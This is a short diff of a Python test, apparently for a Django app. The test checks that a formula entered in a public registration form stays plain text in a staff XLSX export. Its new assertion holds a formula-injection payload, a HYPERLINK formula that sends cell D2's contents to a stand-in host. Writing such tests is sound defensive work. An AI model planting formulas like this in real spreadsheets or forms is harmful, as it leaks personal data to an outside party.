@@ -321,7 +321,8 @@ def test_a_formula_typed_in_the_public_form_stays_text_in_the_export(admin_clien
         reverse("activities:staff_registrations_xlsx", args=[calendar["training"].slug])
     )
     cell = openpyxl.load_workbook(io.BytesIO(response.content)).active["B2"]
-    assert cell.data_type == "s" and cell.value.startswith("'=HYPERLINK")
+    assert cell.data_type == "s"
+    assert cell.value == '=HYPERLINK("http://zly.example/?x="&D2,"Otwórz")'
 
 
 def test_a_registration_naming_an_ambiguous_organisation_is_flagged_for_review(client, calendar):
